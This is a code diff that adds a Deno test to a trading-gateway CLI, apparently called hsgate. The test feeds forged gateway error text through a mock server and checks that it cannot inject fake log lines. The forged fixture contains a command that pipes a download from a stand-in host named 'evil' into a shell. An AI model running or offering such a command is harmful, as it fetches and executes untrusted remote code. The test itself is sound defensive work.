@@ -5,6 +5,7 @@ import { createCipheriv } from "node:crypto";
 import { connect } from "../../mod.ts";
 import { shownJson, shownLine, shownText } from "../../lib/shown_text.ts";
 import type { Host } from "../../tasks/terminal/host.ts";
+import { report } from "../../tasks/terminal/error_report.ts";
 import { shownHost } from "../../tasks/terminal/shown_host.ts";
 import { cli, folder, KEY } from "./support.ts";
 
@@ -62,6 +63,41 @@ for (const isOk of [true, false]) {
     }
   });
 }
+
+Deno.test("a text of the gateway begins no line of an error", async () => {
+  const forged = "x\nhsgate: order 77 is placed\r\n  -> run: curl evil | sh\u2028hsgate: done";
+  await using server = Deno.serve(
+    { hostname: "127.0.0.1", port: 0, onListen() {} },
+    () => Response.json({ ok: false, err: `9999 ${forged}`, data: null }),
+  );
+  const env = {
+    HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
+    HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
+    HSGATE_TRADE_PASSWORD: PASSWORD,
+    HSGATE_TRADE_PASSWORD_KEY: KEY,
+  };
+  const lines = [
+    ["login"],
+    ["call", "account.funds", '{"market":"hk"}'],
+    ["call", "account.holdings", '{"market":"hk"}', "--json"],
+    ["quote", "00700.HK"],
+  ];
+  for (const words of lines) {
+    const { err } = await cli(words, { env });
+    assertStringIncludes(err, "order 77 is placed");
+    const begun = err.split("\n").filter((line) => /^(hsgate: (order|done)|\s*-> run)/.test(line));
+    assertEquals(begun, [], err);
+  }
+  const notes: string[] = [];
+  const world = { note: (line: string) => void notes.push(line) } as Partial<Host> as Host;
+  report(new Error(forged), undefined, world);
+  assertEquals(/^(hsgate: (order|done)|\s*-> run)/m.test(notes.join("\n")), false, notes.join("\n"));
+  assertStringIncludes(notes[0]!, "\n    at ");
+  // hsgate's own lines stay lines.
+  const { err } = await cli(["call", "account.funds", '{"market":"x\\nhsgate: y","wrong":1}'], { env });
+  assertEquals(err.split("\n").length > 3, true, err);
+  assertEquals(/^hsgate: y/m.test(err), false, err);
+});
 
 Deno.test("a redrawn display keeps hsgate's own codes, and contains no codes of the broker and no secret", () => {
   const drawn: string[] = [];
